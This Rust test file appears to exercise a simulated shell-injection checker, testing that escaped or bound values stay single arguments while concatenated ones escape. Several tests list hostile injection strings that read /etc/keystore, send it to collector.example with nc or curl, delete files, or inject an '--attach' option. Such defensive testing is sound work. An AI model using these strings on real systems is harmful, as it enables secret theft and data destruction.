//! Command lines: what pasted text does in a shell, and that an argument stays an argument.

use proptest::prelude::*;

use super::*;

fn used(coding: Coding, value: &str) -> Interpretation {
    Notifier::new(Canary([5; 16])).use_value(coding, value)
}

fn pasted(value: &str) -> (Sink, Level) {
    let used = used(Coding::Concatenated, value);
    (used.sink, used.level)
}

#[test]
fn levels_are_told_apart() {
    assert_eq!(pasted("pump"), (Sink::Shell, Level::Equal));
    assert_eq!(pasted("O'Brien"), (Sink::Shell, Level::Syntax));
    assert_eq!(pasted("pump;"), (Sink::Shell, Level::Effect));
    assert_eq!(pasted("'pump'"), (Sink::Shell, Level::Effect));
    assert_eq!(pasted("two words"), (Sink::Shell, Level::Effect));
    assert_eq!(pasted("x; id"), (Sink::Shell, Level::Effect));
    assert_eq!(pasted("x > notes"), (Sink::Shell, Level::Effect));
    assert_eq!(pasted("*"), (Sink::Shell, Level::Effect));
}

#[test]
fn a_descriptor_that_cannot_be_is_an_error_of_syntax() {
    for value in ["x 99999999999>file", "x; 2147483648<file", "$(id 99999999999999999999>&1)"] {
        assert!(used(Coding::Concatenated, value).level <= Level::Effect, "{value}");
        assert_eq!(used(Coding::Bound, value).level, Level::Equal, "{value}");
    }
    assert_eq!(pasted("x 99999999999>file"), (Sink::Shell, Level::Syntax));
    assert_eq!(pasted("x 2>file"), (Sink::Shell, Level::Effect));
}

#[test]
fn every_way_out_of_the_slot_reaches_the_canary() {
    for value in [
        "x; cat /etc/keystore",
        "x && cat /etc/keystore",
        "x | cat /etc/keystore",
        "x || true; cat < /etc/keystore",
        "$(cat /etc/keystore)",
        "`cat /etc/keystore`",
        "\"$(cat /etc/keystore)\"",
        "x\ncat /etc/keystore",
        "x & cat /etc/key*",
        "x; (cat /etc/keystore)",
        "x; { cat /etc/keystore; }",
        "x; cat /etc/keystore | nc collector.example 9",
        "x; curl -d @/etc/keystore http://collector.example/",
        "x; curl http://collector.example/$(cat /etc/keystore)",
        "x > /etc/keystore",
        "x; rm /etc/keystore",
    ] {
        assert_eq!(pasted(value), (Sink::Shell, Level::Goal), "{value}");
        for coding in [Coding::Escaped, Coding::Bound] {
            let held = used(coding, value);
            assert_eq!(held.level, Level::Equal, "{coding:?} {value}");
            assert!(held.refusal.is_some() && held.sent.is_empty() && !held.is_changed);
        }
    }
}

#[test]
fn a_host_really_receives_what_was_sent() {
    let used = used(Coding::Concatenated, "x; cat /etc/keystore | nc collector.example 9");
    let canary = Canary([5; 16]).text().into_bytes();
    assert_eq!(used.sent, [Sent { host: "collector.example".to_owned(), bytes: canary }]);
}

#[test]
fn an_option_is_injected_without_any_shell() {
    let option = "--attach=/etc/keystore";
    assert_eq!(used(Coding::Escaped, option).level, Level::Goal);
    assert_eq!(used(Coding::Escaped, option).sink, Sink::Arguments);
    assert_eq!(used(Coding::Bound, option).level, Level::Equal);
    assert_eq!(used(Coding::Bound, option).refusal, Some(ARGUMENTS));
}

#[test]
fn files_stay_changed() {
    let mut notifier = Notifier::new(Canary([5; 16]));
    assert!(notifier.use_value(Coding::Concatenated, "x; rm notes").is_changed);
    assert!(!notifier.world.files.contains_key("notes"));
    assert!(!notifier.use_value(Coding::Concatenated, "x").is_changed);
}

#[test]
fn work_and_nesting_are_bounded() {
    let many = "; true".repeat(100);
    assert!(used(Coding::Concatenated, &many).is_exhausted);
    let deep = format!("{}x{}", "$(echo ".repeat(32), ")".repeat(32));
    assert_ne!(used(Coding::Concatenated, &deep).level, Level::Goal);
    let deeper = "(".repeat(NESTING_MAX + 1);
    assert_eq!(used(Coding::Concatenated, &deeper).refusal, Some(NESTED));
    let long = "x".repeat(VALUE_BYTES_MAX + 1);
    assert_eq!(used(Coding::Concatenated, &long).refusal, Some(TOO_LONG));
}

proptest! {
    #[test]
    fn any_text_is_one_argument_where_no_shell_reads_it(
        value in r#"(.|[;|&$`'"\\<>(){}*?# \n-]|cat|/etc/keystore|\$\(|&&){0,24}"#
    ) {
        for coding in [Coding::Bound, Coding::Escaped] {
            let held = used(coding, &value);
            // An option is for the program, not for the shell.
            let is_option = coding == Coding::Escaped && value.starts_with('-');
            prop_assert!(is_option || held.level == Level::Equal, "{coding:?} {:?}", held.level);
        }
        let _ = used(Coding::Concatenated, &value);
    }
}
